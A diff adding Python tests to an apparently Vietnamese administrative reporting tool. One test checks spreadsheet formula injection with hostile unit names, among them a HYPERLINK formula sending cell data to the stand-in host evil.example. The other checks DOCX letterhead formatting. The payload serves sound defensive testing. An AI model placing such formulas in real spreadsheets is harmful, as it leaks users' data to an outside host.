@@ -6,7 +6,9 @@ copies, row by row, not just the first few."""
 from __future__ import annotations
 
 import io
+import zipfile
 from collections import Counter
+from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
 
@@ -244,3 +246,81 @@ def test_xlsx_has_one_row_per_unit_in_order_each_cell_styled(big: Consolidation)
     header = next(indicators.iter_rows(values_only=True))
     assert len(header) == 4 + 2 + 20  # totals, two kinds, twenty districts
     assert header[6] == "Địa bàn: Ủy ban nhân dân huyện Tân Phú 1"
+
+
+def test_xlsx_writes_a_formula_in_a_unit_name_as_text() -> None:
+    # A unit renamed to a formula: in Home Affairs' spreadsheet it is the name, as text,
+    # unchanged, marked so that editing the cell keeps it text; nothing evaluates it.
+    obligations, submissions, units = _fixture()
+    hostile = {
+        "X0101": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        "X0102": "+1+2",
+        "X0103": "-2+3",
+        "X0104": "@SUM(1,2)",
+        "X0105": "#N/A",
+    }
+    for code, name in hostile.items():
+        units[code] = replace(units[code], name=name)
+    c = consolidate(
+        receiving_unit="SNV",
+        obligations=obligations,
+        submissions=submissions,
+        units=units,
+        as_of=AS_OF,
+    )
+    raw = render_xlsx(c)
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+    status = load_workbook(io.BytesIO(raw))["Tình hình nộp báo cáo"]
+    cells = {row[0].value: row[1] for row in status.iter_rows(min_row=2)}
+    for code, name in hostile.items():
+        assert (cells[code].value, cells[code].data_type) == (name, "s")
+        assert cells[code].quotePrefix is (name != "#N/A")
+    assert cells["X0106"].quotePrefix is False
+
+
+def _seed_like(receiving_unit: str) -> DocxDocument:
+    """Units registered as the seed's demo registers them: provinces, districts and
+    communes by their locality's name ("Tỉnh An Bình"), not their committee's."""
+    units = {
+        "T89": UnitFacts("T89", "Tỉnh An Bình", "province", ("T89",)),
+        "SNV": UnitFacts("SNV", "Sở Nội vụ", "department", ("T89", "SNV"), "T89", "T89"),
+        "H801": UnitFacts("H801", "Thành phố An Bình", "district", ("T89", "H801"), "T89", "SNV"),
+        "X1": UnitFacts("X1", "Phường Hải Bắc", "commune", ("T89", "H801", "X1"), "H801", "H801"),
+    }
+    owed = replace(
+        _obligation(
+            units["H801"] if receiving_unit == "SNV" else units["X1"], ObligationStatus.OPEN
+        ),
+        receiving_unit=receiving_unit,
+    )
+    c = consolidate(
+        receiving_unit=receiving_unit, obligations=[owed], submissions=[], units=units, as_of=AS_OF
+    )
+    return Document(io.BytesIO(render_docx(c)))
+
+
+def test_docx_heading_names_the_issuing_authority_as_decree_30_does() -> None:
+    # A department: its governing authority (the province's People's Committee,
+    # abbreviated, regular) above its own name (bold); the place is the province's.
+    department = _seed_like("SNV")
+    left, right = (cell.paragraphs for cell in department.tables[0].rows[0].cells)
+    assert [p.text for p in left[:2]] == ["UBND TỈNH AN BÌNH", "SỞ NỘI VỤ"]
+    assert [r.bold for p in left[:2] for r in p.runs] == [False, True]
+    assert "/BC-SNV" in left[-1].text
+    assert right[-1].text.startswith("An Bình, ngày 20 tháng 6 năm 2023")
+    closing = department.tables[-1].rows[0].cells[0].text
+    assert "- Ủy ban nhân dân tỉnh An Bình (để báo cáo);" in closing
+    # A district-level People's Committee: no authority above it; its name on two lines,
+    # bold; it signs on behalf of the committee and writes UBND in its symbol.
+    district = _seed_like("H801")
+    left, right = (cell.paragraphs for cell in district.tables[0].rows[0].cells)
+    assert [p.text for p in left[:2]] == ["ỦY BAN NHÂN DÂN", "THÀNH PHỐ AN BÌNH"]
+    assert all(r.bold for p in left[:2] for r in p.runs)
+    assert "/BC-UBND" in left[-1].text
+    assert right[-1].text.startswith("An Bình, ngày")
+    signer = district.tables[-1].rows[0].cells[1].text
+    assert signer.startswith("TM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH")
+    text = "\n".join(p.text for p in district.paragraphs)
+    assert "Ủy ban nhân dân thành phố An Bình tổng hợp" in text
